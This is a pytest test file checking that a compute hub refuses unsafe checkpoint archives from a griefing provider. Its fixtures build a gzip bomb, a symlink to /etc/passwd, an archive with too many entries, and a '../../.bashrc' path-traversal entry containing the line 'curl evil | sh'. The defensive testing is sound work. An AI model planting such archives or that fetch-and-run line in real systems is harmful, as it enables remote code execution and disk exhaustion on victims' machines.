"""Checkpoints that cannot hurt the next node, on every store: the hub inspects each archive before
it joins the task's chain, and refuses one the next node could not safely unpack.

The adversary is a provider griefing whoever resumes its task: garbage that fails every retry, a
gzip bomb that fills the next node's disk, links and ``..`` paths that write outside the
checkpoint directory, and archives of more entries than any checkpoint holds.
"""

from __future__ import annotations

import gzip
import io
import tarfile
from collections.abc import Callable
from typing import Any

import pytest
from factories import run_job
from hubkit import Actor, Hub, archive, claim

from lumbung.wire.archive import MAX_ARCHIVE_ENTRIES

PRICE = 36_000_000  # micro-credits per CPU-hour: 10,000 a second
DISK_GB = 0.001  # the job's disk budget: 1,073,741 bytes


def tar_gz(add: Callable[[tarfile.TarFile], None]) -> bytes:
    buffer = io.BytesIO()
    with (
        gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as packed,
        tarfile.open(fileobj=packed, mode="w") as tar,
    ):
        add(tar)
    return buffer.getvalue()


def add_file(tar: tarfile.TarFile, name: str, content: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(content)
    tar.addfile(info, io.BytesIO(content))


def gzip_bomb() -> bytes:
    # 8 MiB of zeros packs into a few kilobytes: far over the job's 1 MB of disk.
    return tar_gz(lambda tar: add_file(tar, "weights.bin", bytes(8 * 1024 * 1024)))


def with_symlink() -> bytes:
    def add(tar: tarfile.TarFile) -> None:
        add_file(tar, "state.bin", b"ok")
        link = tarfile.TarInfo("passwd")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tar.addfile(link)

    return tar_gz(add)


def with_parent_path() -> bytes:
    return tar_gz(lambda tar: add_file(tar, "../../.bashrc", b"curl evil | sh\n"))


def too_many_entries() -> bytes:
    def add(tar: tarfile.TarFile) -> None:
        for i in range(MAX_ARCHIVE_ENTRIES + 1):
            add_file(tar, f"f{i}", b"")

    return tar_gz(add)


BAD_ARCHIVES: dict[str, Callable[[], bytes]] = {
    "garbage": lambda: b"\x00not a tar.gz, just bytes",
    "gzip bomb": gzip_bomb,
    "symlink": with_symlink,
    "parent path": with_parent_path,
    "too many entries": too_many_entries,
}
REASONS = {
    "garbage": "not a readable tar.gz",
    "gzip bomb": "unpacks to more than 1073741 bytes",
    "symlink": "link or special file",
    "parent path": "unsafe path",
    "too many entries": f"more than {MAX_ARCHIVE_ENTRIES} entries",
}


def started(hub: Hub) -> tuple[Actor, Actor, dict[str, Any]]:
    node = hub.node("griefer", price_cpu=PRICE)
    consumer = hub.actor()
    consumer.submit(
        run_job(max_price_micro_per_hour=PRICE, max_runtime_s=3600, resources={"disk_gb": DISK_GB})
    )
    task = claim(node)
    assert task is not None
    return node, consumer, task


def report(
    node: Actor, task: dict[str, Any], blob: bytes, expect: int, size_bytes: int | None = None
) -> Any:
    return node.call(
        "POST",
        f"/v1/tasks/{task['task_id']}/checkpoints",
        {
            "attempt": task["attempt"],
            "sha256": node.upload(blob),
            "size_bytes": len(blob) if size_bytes is None else size_bytes,
            "prev_sha256": None,
            "progress": 0.5,
            "runtime_s": 5.0,
        },
        expect=expect,
    )


@pytest.mark.parametrize("kind", list(BAD_ARCHIVES))
def test_a_checkpoint_the_next_node_could_not_safely_unpack_is_refused_changing_nothing(
    hub: Hub, kind: str
) -> None:
    node, consumer, task = started(hub)
    hub.clock.advance(5.0)
    body = report(node, task, BAD_ARCHIVES[kind](), expect=422)
    assert body["field"] == "sha256"
    assert REASONS[kind] in body["message"]

    view = consumer.call("GET", f"/v1/jobs/{task['job_id']}")
    assert view["tasks"][0]["checkpoints"] == []
    assert hub.ctx.store.get_task(task["task_id"]).last_checkpoint_sha is None
    assert view["escrow"]["released_micro"] == 0  # nothing paid for it
    assert view["work"][0]["kept_s"] == 0.0
    # The chain is as it was: a good checkpoint still starts it.
    report(node, task, archive(b"good"), expect=204)
    assert consumer.call("GET", f"/v1/jobs/{task['job_id']}")["escrow"]["released_micro"] > 0


def test_a_checkpoint_whose_size_disagrees_with_its_blob_is_refused(hub: Hub) -> None:
    node, consumer, task = started(hub)
    hub.clock.advance(5.0)
    blob = archive(b"state")
    body = report(node, task, blob, expect=422, size_bytes=len(blob) + 1)
    assert body["field"] == "size_bytes"
    assert consumer.call("GET", f"/v1/jobs/{task['job_id']}")["tasks"][0]["checkpoints"] == []


def test_an_archive_within_the_disk_budget_joins_the_chain(hub: Hub) -> None:
    node, consumer, task = started(hub)
    hub.clock.advance(5.0)
    # 1,000,000 bytes unpacked: just inside the job's 1,073,741.
    blob = tar_gz(lambda tar: add_file(tar, "dir/weights.bin", bytes(1_000_000)))
    report(node, task, blob, expect=204)
    chain = consumer.call("GET", f"/v1/jobs/{task['job_id']}")["tasks"][0]["checkpoints"]
    assert [c["kept_s"] for c in chain] == [5.0]
